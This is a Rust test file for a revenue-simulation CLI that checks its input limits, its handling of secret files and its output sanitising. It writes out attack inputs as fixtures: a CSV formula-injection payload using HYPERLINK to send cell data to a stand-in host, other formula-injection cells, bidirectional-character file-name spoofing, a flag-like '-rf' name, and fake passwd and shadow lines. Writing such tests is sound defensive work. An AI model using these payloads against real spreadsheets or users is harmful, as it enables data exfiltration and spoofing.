//! What revsim takes in, and what it lets through to a spreadsheet (issue 19): trial counts up
//! to a stated maximum, only regular files within a size limit per kind, error snippets only
//! from files of the kind expected, names that cannot hide text or pass for a flag, CSV cells
//! that cannot run as formulas, sweep rows named by the plan being run, merges that verify
//! their parts, quiet ends on closed pipes, and a word on the cost of a long run before it
//! starts.
//!
//! A test that reads something endless runs revsim under an address-space limit and a
//! timeout, so that a regression fails the test instead of filling the machine or hanging it.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::Duration;

use crate::common::{SMALL, scratch, stderr, stdout};
use assert_cmd::Command;

fn revsim() -> Command {
    Command::cargo_bin("revsim").expect("binary built")
}

/// revsim in `dir` under a 4 GB address-space limit and a 60-second timeout.
fn bounded(dir: &Path, args: &[&str]) -> Output {
    let bin = assert_cmd::cargo::cargo_bin("revsim");
    Command::new("sh")
        .arg("-c")
        .arg("ulimit -v 4000000; exec \"$0\" \"$@\"")
        .arg(bin)
        .args(args)
        .current_dir(dir)
        .timeout(Duration::from_secs(60))
        .output()
        .unwrap()
}

/// Asserts that `o` is an input error (exit 2) whose message holds every one of `words`.
#[track_caller]
fn refused(o: &Output, words: &[&str]) {
    let e = stderr(o);
    assert_eq!(o.status.code(), Some(2), "{e}");
    assert!(!e.contains("panicked"), "{e}");
    for w in words {
        assert!(e.contains(w), "no {w:?} in: {e}");
    }
}

/// The CSV fixture every CRM test reads.
fn example_csv() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/crm/example.csv")
}

// ---------------------------------------------------------------------------------------------
// Trial counts (defect 2)

#[test]
fn trial_counts_beyond_the_maximum_are_refused_before_anything_runs() {
    let dir = scratch(&[("s.toml", SMALL)]);
    let huge = "1000000000000";
    let cases: Vec<Vec<&str>> = vec![
        vec!["run", "s.toml", "--trials", huge],
        vec!["run", "s.toml", "--trials", "4000000000"],
        vec!["run", "s.toml", "--precision", "1%", "--trials", huge],
        vec!["run", "s.toml", "--precision", "1%", "--max-trials", huge],
        vec!["run", "s.toml", "--set", "simulation.trials=1000000000000"],
        vec!["compare", "s.toml", "s.toml", "--trials", huge],
        vec![
            "sweep",
            "s.toml",
            "--vary",
            "org.seats=5,6",
            "--trials",
            huge,
        ],
        vec![
            "sensitivity",
            "s.toml",
            "--param",
            "org.seats",
            "--trials",
            huge,
        ],
        vec![
            "solve",
            "s.toml",
            "--target",
            "p_hit_plan >= 0.5",
            "--vary",
            "org.seats=5..8",
            "--trials",
            huge,
        ],
    ];
    for args in cases {
        let mut all = args.clone();
        all.extend(["--threads", "1", "--out", "out"]);
        let o = bounded(dir.path(), &all);
        refused(&o, &["10000000"]);
        assert!(
            !dir.path().join("out").exists(),
            "{args:?} created its folder"
        );
    }
    // backtest takes --trials too.
    let csv = example_csv();
    let o = bounded(
        dir.path(),
        &[
            "backtest",
            csv.to_str().unwrap(),
            "--as-of",
            "2024-09",
            "--trials",
            huge,
            "--out",
            "out",
        ],
    );
    refused(&o, &["--trials", "10000000"]);
    // check reports a trial count in the file, or from --set, at its place.
    let big = SMALL.replace("trials = 40", "trials = 1_000_000_000_000");
    fs::write(dir.path().join("big.toml"), &big).unwrap();
    let o = bounded(dir.path(), &["check", "big.toml"]);
    refused(&o, &["big.toml:5:", "10000000"]);
    insta::assert_snapshot!("trials_beyond_the_maximum_in_the_file", stderr(&o));
    let o = bounded(
        dir.path(),
        &["check", "s.toml", "--set", "simulation.trials=20000000"],
    );
    refused(&o, &["--set", "10000000"]);
    let o = bounded(dir.path(), &["run", "s.toml", "--trials", huge]);
    insta::assert_snapshot!("trials_beyond_the_maximum_flag", stderr(&o));
    // The maximum itself is allowed (check does not run it).
    let o = bounded(
        dir.path(),
        &["check", "s.toml", "--set", "simulation.trials=10000000"],
    );
    assert!(o.status.success(), "{}", stderr(&o));
}

// ---------------------------------------------------------------------------------------------
// Input files: regular files only, within a limit per kind (defect 3)

#[cfg(unix)]
#[test]
fn only_regular_files_are_read() {
    let starter = include_str!("../src/scenario/starter.toml");
    let dir = scratch(&[
        ("s.toml", SMALL),
        ("zero.toml", &format!("extends = \"/dev/zero\"\n{SMALL}")),
        ("fifo-child.toml", &format!("extends = \"fifo\"\n{SMALL}")),
        (
            "open.toml",
            &format!("{SMALL}\n[open_pipeline]\ncsv = \"/dev/zero\"\n",),
        ),
        ("starter.toml", starter),
    ]);
    let fifo = dir.path().join("fifo");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let cases: [(&[&str], &str); 6] = [
        (&["check", "zero.toml"], "a device"),
        (&["check", "open.toml"], "a device"),
        (&["check", "fifo"], "a named pipe"),
        (&["check", "fifo-child.toml"], "a named pipe"),
        (&["calibrate", "/dev/zero", "--out", "cal"], "a device"),
        (
            &["sweep", "s.toml", "--variants", "/dev/zero", "--out", "sw"],
            "a device",
        ),
    ];
    for (args, what) in cases {
        let o = bounded(dir.path(), args);
        refused(&o, &[what, "regular files"]);
    }
    let o = bounded(dir.path(), &["check", "zero.toml"]);
    insta::assert_snapshot!("a_device_named_by_extends", stderr(&o));
    // A directory is not a scenario either.
    let o = bounded(dir.path(), &["check", "."]);
    refused(&o, &["a directory"]);
}

#[test]
fn files_over_their_limit_are_refused_unread() {
    let dir = scratch(&[("s.toml", SMALL)]);
    // Five MiB of NUL bytes: valid UTF-8, and once a 4-GiB parse of a syntax error.
    fs::write(dir.path().join("nul.toml"), vec![0u8; 5 << 20]).unwrap();
    let o = bounded(dir.path(), &["check", "nul.toml"]);
    refused(&o, &["nul.toml", "5 MiB", "limit of 4 MiB"]);
    insta::assert_snapshot!("a_scenario_file_over_its_limit", stderr(&o));
    // A parent over the limit is refused at the `extends` that names it.
    fs::write(
        dir.path().join("child.toml"),
        format!("extends = \"nul.toml\"\n{SMALL}"),
    )
    .unwrap();
    let o = bounded(dir.path(), &["check", "child.toml"]);
    refused(&o, &["child.toml:1:", "limit of 4 MiB"]);
    // A batch file, and a CRM export past 1 GiB (sparse: no disk is used and nothing is read).
    let big = fs::File::create(dir.path().join("big.csv")).unwrap();
    big.set_len((1 << 30) + 1).unwrap();
    let o = bounded(dir.path(), &["calibrate", "big.csv", "--out", "cal"]);
    refused(&o, &["big.csv", "limit of 1 GiB"]);
    let batch = fs::File::create(dir.path().join("batch.toml")).unwrap();
    batch.set_len((16 << 20) + 1).unwrap();
    let o = bounded(
        dir.path(),
        &["sweep", "s.toml", "--variants", "batch.toml", "--out", "sw"],
    );
    refused(&o, &["batch.toml", "limit of 16 MiB"]);
    let open = format!("{SMALL}\n[open_pipeline]\ncsv = \"big.csv\"\n");
    fs::write(dir.path().join("open.toml"), open).unwrap();
    let o = bounded(dir.path(), &["check", "open.toml"]);
    refused(&o, &["open.toml:", "limit of 1 GiB"]);
}

#[test]
fn standard_input_is_read_under_the_same_limits() {
    let dir = scratch(&[]);
    let o = revsim()
        .current_dir(dir.path())
        .args(["check", "-"])
        .write_stdin(SMALL)
        .timeout(Duration::from_secs(60))
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stdout(&o).starts_with("ok: -"), "{}", stdout(&o));
    let o = revsim()
        .current_dir(dir.path())
        .args(["check", "-"])
        .write_stdin(vec![b' '; 5 << 20])
        .timeout(Duration::from_secs(60))
        .output()
        .unwrap();
    refused(&o, &["<stdin>", "limit of 4 MiB"]);
    // A CRM export from standard input.
    let o = revsim()
        .current_dir(dir.path())
        .args(["calibrate", "-", "--out", "cal", "-q"])
        .write_stdin(fs::read(example_csv()).unwrap())
        .timeout(Duration::from_secs(120))
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(dir.path().join("cal/fit.json").is_file());
}

// ---------------------------------------------------------------------------------------------
// Error snippets (defect 13)

#[test]
fn snippets_come_only_from_files_of_the_expected_kind() {
    let secret = "root:x:0:0:root-secret-line:/root:/bin/bash\n";
    let toml_secret = "token = \"s3cr3t-token\"\n";
    let shadow = "root:*:19000:0:99999:7:shadow-secret:\n";
    let dir = scratch(&[
        ("passwd", secret),
        ("credentials.toml", toml_secret),
        ("shadow", shadow),
        ("a.toml", &format!("extends = \"passwd\"\n{SMALL}")),
        (
            "b.toml",
            &format!("extends = \"credentials.toml\"\n{SMALL}"),
        ),
        (
            "c.toml",
            &format!("{SMALL}\n[open_pipeline]\ncsv = \"shadow\"\n"),
        ),
    ]);
    for (file, leak, reason) in [
        ("a.toml", "root-secret-line", "not a scenario file"),
        ("b.toml", "s3cr3t-token", "not a scenario file"),
        ("c.toml", "shadow-secret", "not a CRM export"),
    ] {
        let o = bounded(dir.path(), &["check", file]);
        refused(&o, &[reason]);
        assert!(!stderr(&o).contains(leak), "{file}: {}", stderr(&o));
        assert!(!stderr(&o).contains("root:"), "{file}: {}", stderr(&o));
    }
    let o = bounded(dir.path(), &["check", "a.toml"]);
    insta::assert_snapshot!("extends_names_a_file_that_is_not_a_scenario", stderr(&o));
    // A parent that is a scenario keeps its snippet.
    fs::write(
        dir.path().join("parent.toml"),
        SMALL.replace("annual_rate = 0.3", "annual_rate = 3"),
    )
    .unwrap();
    fs::write(
        dir.path().join("d.toml"),
        "extends = \"parent.toml\"\nname = \"d\"\n",
    )
    .unwrap();
    let o = bounded(dir.path(), &["check", "d.toml"]);
    refused(&o, &["parent.toml:12:", "annual_rate = 3"]);
}

// ---------------------------------------------------------------------------------------------
// Names (defect 14)

#[test]
fn a_control_character_in_a_name_is_located_and_blamed_on_its_source() {
    let dir = scratch(&[
        ("bell.toml", &format!("name = \"my\\u0007org\"\n{SMALL}")),
        ("s.toml", SMALL),
    ]);
    let o = bounded(dir.path(), &["check", "bell.toml"]);
    refused(&o, &["bell.toml:1:8", "control character"]);
    // From --set, the error is the override's, not the file's.
    let o = bounded(dir.path(), &["check", "s.toml", "--set", "name=a\u{7}b"]);
    refused(&o, &["control character"]);
    assert!(stderr(&o).starts_with("error: --set"), "{}", stderr(&o));
    insta::assert_snapshot!("a_control_character_in_a_name_from_set", stderr(&o));
}

#[test]
fn bidirectional_and_invisible_characters_are_refused_in_names() {
    for c in [
        '\u{202E}', '\u{2066}', '\u{200F}', '\u{200B}', '\u{FEFF}', '\u{061C}',
    ] {
        let dir = scratch(&[("s.toml", &format!("name = \"invoice{c}fdp.exe\"\n{SMALL}"))]);
        let o = bounded(dir.path(), &["check", "s.toml"]);
        refused(&o, &["s.toml:1:8", "`name`"]);
        let batch = format!("[[variant]]\nname = \"a{c}b\"\nset = {{ \"org.seats\" = 5 }}\n");
        fs::write(dir.path().join("b.toml"), batch).unwrap();
        fs::write(dir.path().join("ok.toml"), SMALL).unwrap();
        let o = bounded(
            dir.path(),
            &["sweep", "ok.toml", "--variants", "b.toml", "--out", "sw"],
        );
        refused(&o, &["b.toml"]);
    }
    let dir = scratch(&[(
        "s.toml",
        &format!("name = \"invoice\u{202E}fdp.exe\"\n{SMALL}"),
    )]);
    let o = bounded(dir.path(), &["check", "s.toml"]);
    insta::assert_snapshot!("a_bidirectional_control_in_a_name", stderr(&o));
}

#[test]
fn a_name_that_reads_as_a_flag_makes_no_such_folder() {
    let dir = scratch(&[("s.toml", &format!("name = \"-rf\"\n{SMALL}"))]);
    let o = bounded(dir.path(), &["run", "s.toml", "--trials", "2", "-q"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let names: Vec<String> = fs::read_dir(dir.path().join("out"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names.len(), 1);
    assert!(!names[0].starts_with('-'), "{names:?}");
}

// ---------------------------------------------------------------------------------------------
// Spreadsheet formulas (defect 5)

/// Every CSV file under `dir`, recursively.
fn csv_files(dir: &Path, out: &mut Vec<PathBuf>) {
    for e in fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            csv_files(&p, out);
        } else if p.extension().is_some_and(|x| x == "csv") {
            out.push(p);
        }
    }
}

/// Asserts that no cell of any CSV file under `dir` (headers included) starts as a formula:
/// with `=`, `+`, `-`, `@`, a tab or a carriage return, unless it is a plain number. Returns
/// how many cells held text from `marker` (so a test cannot pass by reading nothing).
#[track_caller]
fn assert_no_formula(dir: &Path, marker: &str) -> usize {
    let mut files = Vec::new();
    csv_files(dir, &mut files);
    assert!(!files.is_empty(), "no CSV under {}", dir.display());
    let mut marked = 0;
    for f in files {
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_path(&f)
            .unwrap();
        for rec in r.records() {
            for cell in rec.unwrap().iter() {
                marked += usize::from(cell.contains(marker));
                let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                assert!(
                    !risky || cell.parse::<f64>().is_ok_and(f64::is_finite),
                    "{}: the cell {cell:?} reads as a formula",
                    f.display()
                );
            }
        }
    }
    marked
}

#[test]
fn formula_like_text_is_neutralised_in_every_csv() {
    let hyperlink = r#"=HYPERLINK("http://x/?"&A1,"Click")"#;
    let dir = scratch(&[
        ("a.toml", &format!("name = '{hyperlink}'\n{SMALL}")),
        (
            "b.toml",
            &format!("name = '+Click'\ndescription = '@SUM(1)'\n{SMALL}"),
        ),
    ]);
    let o = bounded(
        dir.path(),
        &["run", "a.toml", "--trials", "20", "-q", "--out", "run"],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(assert_no_formula(&dir.path().join("run"), "HYPERLINK") > 100);
    let o = bounded(
        dir.path(),
        &[
            "compare", "a.toml", "b.toml", "--trials", "20", "-q", "--out", "cmp",
        ],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let cmp = dir.path().join("cmp");
    assert!(assert_no_formula(&cmp, "Click") >= 4);
    let mut inputs = csv::Reader::from_path(cmp.join("input-differences.csv")).unwrap();
    let header = inputs.headers().unwrap().clone();
    assert_eq!(&header[1], hyperlink.replacen('=', "'=", 1), "{header:?}");
    assert_eq!(&header[2], "'+Click", "{header:?}");
}

#[test]
fn backtest_origins_guard_the_owner_names_of_the_export() {
    let text = fs::read_to_string(example_csv()).unwrap();
    let text = crate::common::edit(&text, "Avery Chen", "@SUM(1+1)");
    let text = crate::common::edit(&text, "Casey Novak", "+1+1");
    let text = crate::common::edit(&text, "Harper Diaz", "\"\t=1+1\"");
    let text = crate::common::edit(&text, "Indigo Rao", "=1+1");
    let dir = scratch(&[("history.csv", &text)]);
    let o = bounded(
        dir.path(),
        &[
            "backtest",
            "history.csv",
            "--as-of",
            "2024-09",
            "--trials",
            "50",
            "-q",
            "--out",
            "bt",
        ],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let origin = dir.path().join("bt/origins/2024-09");
    assert!(origin.join("open-pipeline.csv").is_file());
    assert!(assert_no_formula(&dir.path().join("bt"), "1+1") >= 2);
}

#[test]
fn the_crm_reader_keeps_a_leading_tab_in_text() {
    let text = "id,owner,created_date,close_date,amount_usd,outcome\n\
                OPP-1,\"\t=1+1\",2024-01-01,2024-02-01,100,won\n\
                OPP-2,  Ann  ,2024-01-01,2024-02-01,100,won\n";
    let h = revsim::crm::parse_history(text.as_bytes(), "t.csv", &Default::default()).unwrap();
    assert_eq!(h.opportunities[0].owner, "\t=1+1");
    assert_eq!(h.opportunities[1].owner, "Ann", "spaces are still trimmed");
}

// ---------------------------------------------------------------------------------------------
// Sweep labels (defect 4)

#[test]
fn sweep_rows_carry_the_names_of_the_plan_being_run() {
    let dir = scratch(&[
        ("s.toml", SMALL),
        (
            "first.toml",
            "[[variant]]\nname = \"base\"\n\n\
             [[variant]]\nname = \"hire-faster\"\nset = { \"org.seats\" = 5 }\n\n\
             [[variant]]\nname = \"same-as-base\"\nset = { \"org.seats\" = 6 }\n",
        ),
        (
            "second.toml",
            "[[variant]]\nname = \"base\"\n\n\
             [[variant]]\nname = \"plan-B\"\nset = { \"org.seats\" = 5 }\n",
        ),
    ]);
    let sweep = |batch: &str, force: bool| {
        let mut args = vec![
            "sweep",
            "s.toml",
            "--variants",
            batch,
            "--trials",
            "20",
            "--out",
            "sw",
        ];
        if force {
            args.push("--force");
        }
        bounded(dir.path(), &args)
    };
    let o = sweep("first.toml", false);
    assert!(o.status.success(), "{}", stderr(&o));
    let warned = stderr(&o);
    assert!(
        warned.contains("\"same-as-base\"") && warned.contains("\"base\""),
        "the duplicate is reported: {warned}"
    );
    let csv = fs::read_to_string(dir.path().join("sw/sweep.csv")).unwrap();
    let names: Vec<&str> = csv
        .lines()
        .skip(1)
        .filter(|l| l.contains(",horizon,"))
        .map(|l| l.split(',').next().unwrap())
        .collect();
    assert_eq!(names, ["base", "hire-faster", "same-as-base"], "{csv}");
    // A new plan in the same folder: its own names, though the runs are reused.
    let o = sweep("second.toml", true);
    assert!(o.status.success(), "{}", stderr(&o));
    let csv = fs::read_to_string(dir.path().join("sw/sweep.csv")).unwrap();
    assert!(csv.contains("\nplan-B,5,"), "{csv}");
    assert!(!csv.contains("hire-faster"), "{csv}");
    let html = fs::read_to_string(dir.path().join("sw/report.html")).unwrap();
    assert!(html.contains("plan-B") && !html.contains("hire-faster"));
}

// ---------------------------------------------------------------------------------------------
// Merge (defect 6)

fn copy_dir(from: &Path, to: &Path) {
    fs::create_dir_all(to).unwrap();
    for e in fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        let target = to.join(e.file_name());
        if e.path().is_dir() {
            copy_dir(&e.path(), &target);
        } else {
            fs::copy(e.path(), target).unwrap();
        }
    }
}

#[test]
fn merge_refuses_damaged_duplicated_missing_or_foreign_parts() {
    let dir = scratch(&[("s.toml", SMALL)]);
    let shard = |i: &str, out: &str, seed: &str| {
        let o = bounded(
            dir.path(),
            &[
                "run",
                "s.toml",
                "--trials",
                "200",
                "--seed",
                seed,
                "--shard",
                i,
                "-q",
                "--threads",
                "1",
                "--out",
                out,
            ],
        );
        assert!(o.status.success(), "{}", stderr(&o));
    };
    shard("1/2", "p1", "3");
    shard("2/2", "p2", "3");
    shard("2/2", "other", "4");
    let part1 = dir.path().join("p1/run-part-1-of-2.bin");
    let part2 = dir.path().join("p2/run-part-2-of-2.bin");
    let o = bounded(dir.path(), &["merge", "p1", "p2", "-q", "--out", "whole"]);
    assert!(o.status.success(), "{}", stderr(&o));

    // Single-bit flips anywhere in a part: every one is refused, naming the file.
    let bytes = fs::read(&part2).unwrap();
    let flips = 40;
    for k in 0..flips {
        let at = bytes.len() * k / flips + k % 7;
        let mut damaged = bytes.clone();
        damaged[at] ^= 1 << (k % 8);
        let d = dir.path().join(format!("flip-{k}"));
        copy_dir(&dir.path().join("p1"), &d);
        fs::write(d.join("run-part-2-of-2.bin"), damaged).unwrap();
        let shown = format!("flip-{k}");
        let o = bounded(dir.path(), &["merge", &shown, "-q"]);
        refused(&o, &["run-part-2-of-2.bin"]);
        assert!(!d.join("run.json").exists(), "flip at byte {at}");
    }
    // A part twice (under its own name in two folders, or renamed as the other part).
    fs::create_dir(dir.path().join("again")).unwrap();
    fs::copy(&part1, dir.path().join("again/run-part-1-of-2.bin")).unwrap();
    let o = bounded(
        dir.path(),
        &["merge", "p1", "again", "p2", "-q", "--out", "m1"],
    );
    refused(&o, &["again/run-part-1-of-2.bin", "twice"]);
    fs::create_dir(dir.path().join("renamed")).unwrap();
    fs::copy(&part1, dir.path().join("renamed/run-part-2-of-2.bin")).unwrap();
    let o = bounded(dir.path(), &["merge", "p1", "renamed", "-q", "--out", "m2"]);
    refused(&o, &["renamed/run-part-2-of-2.bin", "part 1 of 2"]);
    // A missing part, and a part of another run.
    let o = bounded(dir.path(), &["merge", "p1", "-q", "--out", "m3"]);
    refused(&o, &["2/2", "missing"]);
    let o = bounded(dir.path(), &["merge", "p1", "other", "-q", "--out", "m4"]);
    refused(&o, &["other/run-part-2-of-2.bin"]);
}

#[test]
fn merge_refuses_a_damaged_variant_of_a_sharded_sweep() {
    let dir = scratch(&[("s.toml", SMALL)]);
    for i in ["1/2", "2/2"] {
        let o = bounded(
            dir.path(),
            &[
                "sweep",
                "s.toml",
                "--vary",
                "org.seats=5,6",
                "--trials",
                "30",
                "--shard",
                i,
                "-q",
                "--out",
                "sw",
            ],
        );
        assert!(o.status.success(), "{}", stderr(&o));
    }
    copy_dir(&dir.path().join("sw"), &dir.path().join("clean"));
    let o = bounded(dir.path(), &["merge", "clean", "-q"]);
    assert!(o.status.success(), "{}", stderr(&o));
    // Change one figure of one stored variant: the merge names the file and stops.
    let variants = dir.path().join("sw/variants");
    let file = fs::read_dir(&variants)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    let text = fs::read_to_string(&file).unwrap();
    let at = text.find("\"value\": ").unwrap() + "\"value\": ".len();
    let digit = text[at..].find(|c: char| c.is_ascii_digit()).unwrap() + at;
    let mut damaged = text.into_bytes();
    damaged[digit] = if damaged[digit] == b'9' {
        b'8'
    } else {
        damaged[digit] + 1
    };
    fs::write(&file, damaged).unwrap();
    let o = bounded(dir.path(), &["merge", "sw", "-q"]);
    let name = file.file_name().unwrap().to_string_lossy().into_owned();
    refused(&o, &[&name, "damaged"]);
    assert!(!dir.path().join("sw/sweep.csv").exists());
}

// ---------------------------------------------------------------------------------------------
// Closed pipes (defect 12)

/// The exit code of revsim in `dir` with its stdout and/or stderr the write end of a pipe
/// whose reader is already gone.
fn with_closed(dir: &Path, args: &[&str], close_stdout: bool, close_stderr: bool) -> Option<i32> {
    use std::process::Stdio;
    let bin = assert_cmd::cargo::cargo_bin("revsim");
    let mut c = std::process::Command::new(bin);
    c.args(args).current_dir(dir).stdin(Stdio::null());
    let closed = || {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        Stdio::from(writer)
    };
    c.stdout(if close_stdout {
        closed()
    } else {
        Stdio::null()
    });
    c.stderr(if close_stderr {
        closed()
    } else {
        Stdio::null()
    });
    c.status().unwrap().code()
}

#[test]
fn closed_pipes_end_quietly_with_the_right_exit_code() {
    let odd = SMALL.replace("annual_rate = 0.3", "annual_rate = 0.85");
    let dir = scratch(&[("s.toml", SMALL), ("odd.toml", &odd)]);
    let d = dir.path();
    assert_eq!(
        with_closed(d, &["check", "missing.toml"], false, true),
        Some(2)
    );
    assert_eq!(
        with_closed(d, &["check", "missing.toml"], true, true),
        Some(2)
    );
    assert_eq!(with_closed(d, &["check", "s.toml"], true, false), Some(0));
    assert_eq!(
        with_closed(d, &["check", "s.toml", "missing.toml"], true, false),
        Some(2),
        "a closed stdout does not hide a bad file"
    );
    assert_eq!(with_closed(d, &["check", "odd.toml"], false, true), Some(0));
    assert_eq!(
        with_closed(d, &["check", "--strict", "odd.toml", "s.toml"], true, true),
        Some(2)
    );
    assert_eq!(with_closed(d, &["schema"], true, true), Some(0));
    let run = ["run", "odd.toml", "--trials", "5", "--out", "out"];
    assert_eq!(with_closed(d, &run, true, true), Some(0));
    assert!(d.join("out/run.json").is_file());
    assert_eq!(with_closed(d, &["run", "--bogus"], true, true), Some(2));
}

// ---------------------------------------------------------------------------------------------
// The cost of a long run, stated before it starts (defect 14)

/// A scenario of about 6e8 opportunities per trial: valid, and hours long at 10,000 trials.
fn vast() -> String {
    SMALL
        .replace("horizon_months = 12", "horizon_months = 36")
        .replace("trials = 40", "trials = 10_000")
        .replace("seats = 6", "seats = 100_000")
        .replace(
            "opportunities_per_rep_month = 3",
            "opportunities_per_rep_month = 166",
        )
}

#[test]
fn a_long_run_states_its_time_and_memory_before_it_starts() {
    use std::io::{BufRead, BufReader};
    let dir = scratch(&[("vast.toml", &vast()), ("s.toml", SMALL)]);
    let o = bounded(dir.path(), &["check", "vast.toml"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let said = stdout(&o);
    assert!(
        said.contains("estimated") && said.contains("memory"),
        "check states the cost: {said}"
    );
    // A small run says nothing of it.
    let o = bounded(dir.path(), &["check", "s.toml"]);
    assert!(!stdout(&o).contains("estimated"), "{}", stdout(&o));
    // run says it on stderr before the first trial; the test stops it there.
    let bin = assert_cmd::cargo::cargo_bin("revsim");
    let mut child = std::process::Command::new("sh")
        .arg("-c")
        .arg("ulimit -v 4000000; exec \"$0\" \"$@\"")
        .arg(bin)
        .args(["run", "vast.toml", "--threads", "1", "--out", "out"])
        .current_dir(dir.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let err = child.stderr.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(err).lines() {
            let Ok(line) = line else { break };
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    // The first note on stderr that gives the estimate (a warning may come before it).
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    let mut line = None;
    while let Some(left) = deadline.checked_duration_since(std::time::Instant::now()) {
        match rx.recv_timeout(left) {
            Ok(l) if l.contains("estimated") => {
                line = Some(l);
                break;
            }
            Ok(_) => {}
            Err(_) => break,
        }
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let line = line.expect("run said nothing of its cost before it started");
    assert!(
        line.contains("estimated") && line.contains("hours") && line.contains("memory"),
        "{line}"
    );
    insta::assert_snapshot!("a_long_run_states_its_cost", line);
}

// ---------------------------------------------------------------------------------------------
// The memory of a large batch (defect 14)

/// The peak resident memory of a child, in bytes, from `/proc` (Linux): the last high-water
/// mark read before it exits.
#[cfg(target_os = "linux")]
fn peak_rss(mut child: std::process::Child) -> (std::process::ExitStatus, u64) {
    let status_file = format!("/proc/{}/status", child.id());
    let mut peak = 0;
    loop {
        if let Ok(text) = fs::read_to_string(&status_file)
            && let Some(kb) = text
                .lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        {
            peak = peak.max(kb * 1024);
        }
        if let Some(status) = child.try_wait().unwrap() {
            return (status, peak);
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[cfg(target_os = "linux")]
#[test]
fn a_sweep_of_ten_thousand_variants_stays_under_500_mb() {
    // Each variant's scenario holds its table of decision lags for the uncertain cycle time:
    // a batch that kept every resolved variant at once grew by a third of a megabyte a variant.
    let uncertain = format!(
        "{SMALL}\n[uncertainty.parameters]\n\"pipeline.cycle_months.mean\" = {{ p10 = 2.6, p50 = 3.0, p90 = 3.5 }}\n"
    );
    let dir = scratch(&[("s.toml", &uncertain)]);
    let bin = assert_cmd::cargo::cargo_bin("revsim");
    let child = std::process::Command::new(bin)
        .args([
            "sweep",
            "s.toml",
            "--vary",
            "org.seats=1..100:1",
            "--vary",
            "attrition.annual_rate=0.01..1:0.01",
            "--trials",
            "10",
            "-q",
            "--out",
            "sw",
        ])
        .current_dir(dir.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let (status, peak) = peak_rss(child);
    assert!(status.success());
    let rows = fs::read_to_string(dir.path().join("sw/sweep.csv"))
        .unwrap()
        .lines()
        .filter(|l| l.contains(",horizon,"))
        .count();
    assert_eq!(rows, 10_000);
    assert!(peak > 0, "no reading of the peak");
    assert!(peak < 500 << 20, "peak {} MB", peak >> 20);
}
